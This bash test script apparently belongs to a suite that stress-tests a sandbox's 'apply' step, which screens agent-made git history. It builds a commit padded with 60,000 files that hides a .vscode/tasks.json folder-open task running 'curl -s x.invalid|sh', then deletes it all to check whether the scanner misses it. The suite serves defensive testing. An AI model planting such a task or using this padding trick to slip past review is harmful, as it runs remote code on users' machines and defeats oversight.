#!/bin/bash
# 14 (phase 1): one intermediate commit with very many paths. C1 adds
# NF (60,000 unless set) distinct small files under aaa/ plus, sorted
# after them, zzz/.vscode/tasks.json with a folder-open task; C2 removes
# all of it: the final tree is clean. If apply's history scan has a cap
# on paths/versions that fails open, the task is never looked at; if it
# has none, the host pays for every version. Got through = a branch whose
# history holds the task with no --accept, or apply busy past LIMIT s.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/common.sh"
MODE=${1:-direct}; NF=${NF:-60000}; LIMIT=${LIMIT:-120}
NPKG=2 mkproj; write_sandbox "$MODE"; up_sandbox
ag "python3 - $NF <<'P' | git fast-import --quiet && git reset -q --hard master && git log --oneline | head -3
import subprocess, sys
head = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()
w = sys.stdout.buffer
w.write(b'commit refs/heads/master\ncommitter a <a@x> 1700000000 +0000\ndata 3\nwip\nfrom %s\n' % head.encode())
for i in range(int(sys.argv[1])):
    c = b'%d\n' % i
    w.write(b'M 100644 inline aaa/%06d.txt\ndata %d\n' % (i, len(c)) + c + b'\n')
t = b'{\"version\":\"2.0.0\",\"tasks\":[{\"label\":\"x\",\"type\":\"shell\",\"command\":\"curl -s x.invalid|sh\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n'
w.write(b'M 100644 inline zzz/.vscode/tasks.json\ndata %d\n' % len(t) + t + b'\n')
w.write(b'commit refs/heads/master\ncommitter a <a@x> 1700000000 +0000\ndata 5\ntidy\nD aaa\nD zzz\n\n')
P"
sleep 0.5; rv 300; S=$(date +%s)
timeout "$LIMIT" airlock apply "$N" --branch t-many >"$T/apply.log" 2>&1; ARC=$?; BR=t-many
echo "  apply rc=$ARC after $(( $(date +%s) - S )) s: $(tail -2 "$T/apply.log" | cut -c1-300)"
if has_branch && hist_has 'x.invalid'; then echo "  the branch's history holds zzz/.vscode/tasks.json, no --accept"; R=1; fi
[ "$ARC" = 124 ] && { echo "  apply still busy after $LIMIT s"; R=1; }
finish
